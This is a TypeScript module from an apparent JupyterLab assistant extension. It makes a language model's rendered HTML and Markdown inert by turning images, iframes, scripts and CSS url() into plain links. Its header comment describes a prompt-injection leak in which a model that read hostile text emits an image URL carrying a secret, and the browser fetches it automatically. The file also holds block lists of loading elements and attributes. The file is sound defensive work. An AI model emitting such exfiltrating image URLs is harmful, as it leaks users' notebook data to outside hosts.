import type { IRenderMimeRegistry } from '@jupyterlab/rendermime';
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';

/**
 * No remote resource is ever fetched from a model's text. A model that read
 * something hostile can write `![x](https://host/?secret=...)`, `<img src>`,
 * `<video poster>`, a CSS `url()`, and the like: shown as they are, the page
 * fetches them at once (and again on every reload), sending what the model
 * read to any host without a cell being run.
 *
 * The policy, one for every place model text is shown: an image or any other
 * embed becomes an inert link whose text is its URL (fetched only if the user
 * follows it); nothing that would load by itself stays. No exception is made
 * for `data:` URIs nor for the notebook's own files: the panel and the answer
 * show what the model said, and a URL to read serves that as well as a
 * picture.
 *
 * Two forms of it, by where the text goes:
 * - HTML rendered as untrusted (the chat panel): `inertHtml`, applied after
 *   JupyterLab's sanitizer by `inertSanitizer` (see `modelRendermime`).
 * - Markdown stored for any frontend (a `%%ci` answer output, an answer
 *   inserted as a Markdown cell): `escapeMarkdownHtml` (answerOutput.ts)
 *   escapes all raw HTML and writes each Markdown image as `inertImage`.
 * The conversation export, Markdown written by the server as a file, has the
 * policy's third form: jupyter_ci/server/inert_markdown.py.
 */

/**
 * Elements that load something by themselves. Each is replaced by links to
 * the URLs it (and what it holds) names.
 */
const EMBEDS = [
  'img',
  'image',
  'picture',
  'source',
  'video',
  'audio',
  'track',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'portal',
  'link',
  'meta',
  'base',
  'style',
  'script',
  'use',
  'feimage',
  'bgsound',
  'input[type="image" i]',
  'svg',
  'math',
  'noscript',
  'noembed',
  'noframes',
  'template'
];

/**
 * Attributes that name a resource the browser may load.
 */
const URL_ATTRIBUTES = [
  'src',
  'srcset',
  'imagesrcset',
  'poster',
  'background',
  'data',
  'href',
  'xlink:href',
  'lowsrc',
  'dynsrc',
  'codebase',
  'action',
  'formaction',
  'ping',
  'manifest',
  'longdesc',
  'icon',
  'content'
];

/**
 * HTML from a model made inert (see the module's comment): each embed is
 * replaced by links to its URLs, with their URLs as text; other elements
 * keep no attribute that loads anything (a `style` may hold a CSS `url()`,
 * so styles go too); links keep their `href` and lose their `ping`.
 *
 * The HTML is parsed into a document of its own (`DOMParser`), where nothing
 * loads, and written back as text.
 */
export function inertHtml(html: string): string {
  const doc = new DOMParser().parseFromString(
    `<!DOCTYPE html><html><body>${html}</body></html>`,
    'text/html'
  );
  const body = doc.body;
  for (const element of Array.from(body.querySelectorAll(EMBEDS.join(',')))) {
    if (!body.contains(element)) {
      continue; // inside an embed already replaced
    }
    element.replaceWith(Private.linksFor(doc, element));
  }
  for (const element of Array.from(body.querySelectorAll('*'))) {
    const isLink = ['a', 'area'].includes(element.localName);
    const named = Private.urlsOf(element).filter(
      url => !(isLink && url === element.getAttribute('href'))
    );
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (
        name === 'style' ||
        name.startsWith('on') ||
        (URL_ATTRIBUTES.includes(name) && !(isLink && name === 'href'))
      ) {
        element.removeAttribute(attribute.name);
      }
    }
    if (named.length) {
      // A background or a style's url(): the URLs are said after the element.
      element.after(Private.links(doc, element, named, element.localName));
    }
  }
  return body.innerHTML;
}

/**
 * A sanitizer for model text: `base`'s (JupyterLab's), then `inertHtml`.
 */
export function inertSanitizer(
  base: IRenderMime.ISanitizer
): IRenderMime.ISanitizer {
  return {
    sanitize: (dirty, options) => inertHtml(base.sanitize(dirty, options)),
    getAutolink: () => base.getAutolink?.() ?? true,
    allowNamedProperties: base.allowNamedProperties,
    allowCommandLinker: false
  };
}

/**
 * The registry to render a model's text with: `rendermime` with
 * `inertSanitizer` (one clone per registry).
 */
export function modelRendermime(
  rendermime: IRenderMimeRegistry
): IRenderMimeRegistry {
  let found = Private.clones.get(rendermime);
  if (!found) {
    found = rendermime.clone({
      sanitizer: inertSanitizer(rendermime.sanitizer)
    });
    Private.clones.set(rendermime, found);
  }
  return found;
}

/**
 * The Markdown for an image of a model's: `[image: ALT]` as text, then a link
 * whose text is the image's URL (every character of it shown as written).
 * `label` is Markdown already made safe by the caller; `url` is the image's
 * destination without its angle brackets. The link's own destination has the
 * characters Markdown would read otherwise percent-encoded.
 */
export function inertImage(label: string, url: string): string {
  const shown = url.replace(/[!-/:-@[-`{-~]/g, char => `\\${char}`);
  const target = url.replace(
    /[\s()<>\\`]/g,
    char => `%${char.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`
  );
  const alt = label.trim() ? `: ${label.trim()}` : '';
  return `\\[image${alt}\\] [${shown}](${target})`;
}

namespace Private {
  /**
   * The registries made by `modelRendermime`.
   */
  export const clones = new WeakMap<IRenderMimeRegistry, IRenderMimeRegistry>();

  /**
   * Links to the URLs `element` and what it holds name (none: an empty
   * text), each after the kind of element it was.
   */
  export function linksFor(doc: Document, element: Element): Node {
    const found: string[] = [];
    for (const node of [
      element,
      ...Array.from(element.querySelectorAll('*'))
    ]) {
      for (const url of urlsOf(node)) {
        if (!found.includes(url)) {
          found.push(url);
        }
      }
    }
    const alt = element.getAttribute('alt') ?? element.getAttribute('title');
    const kind = element.localName + (alt ? `: ${alt}` : '');
    return links(doc, element, found, kind);
  }

  /**
   * `[KIND] URL` for each URL, the URL a link (plain text inside a link:
   * links do not nest).
   */
  export function links(
    doc: Document,
    element: Element,
    urls: string[],
    kind: string
  ): Node {
    const span = doc.createElement('span');
    span.className = 'jp-jupyter-ci-inert-embed';
    const inLink = !!element.parentElement?.closest('a');
    urls.forEach((url, index) => {
      span.append(`${index ? ' ' : ''}[${kind}] `);
      if (inLink) {
        span.append(url);
        return;
      }
      const link = doc.createElement('a');
      link.setAttribute('href', url);
      link.setAttribute('rel', 'noopener noreferrer nofollow');
      link.setAttribute('target', '_blank');
      link.textContent = url;
      span.append(link);
    });
    return span;
  }

  /**
   * The URLs one element names (a `srcset` lists several; CSS `url()`s in a
   * `style` element or attribute count too).
   */
  export function urlsOf(node: Element): string[] {
    const urls: string[] = [];
    for (const attribute of Array.from(node.attributes)) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim();
      if (!value) {
        continue;
      }
      if (name === 'srcset' || name === 'imagesrcset') {
        for (const candidate of value.split(',')) {
          const url = candidate.trim().split(/\s+/)[0];
          if (url) {
            urls.push(url);
          }
        }
      } else if (name === 'style') {
        urls.push(...cssUrls(value));
      } else if (URL_ATTRIBUTES.includes(name) && name !== 'content') {
        urls.push(value);
      }
    }
    if (node.localName === 'style') {
      urls.push(...cssUrls(node.textContent ?? ''));
    }
    return urls.filter(url => !/^\s*javascript:/i.test(url));
  }

  /**
   * The URLs of CSS `url(...)` and `@import "..."`.
   */
  function cssUrls(css: string): string[] {
    const urls: string[] = [];
    const pattern =
      /url\(\s*(?:"([^"]*)"|'([^']*)'|([^)\s]*))\s*\)|@import\s+(?:"([^"]*)"|'([^']*)')/gi;
    for (const match of css.matchAll(pattern)) {
      const url = match.slice(1).find(part => part !== undefined);
      if (url) {
        urls.push(url);
      }
    }
    return urls;
  }
}
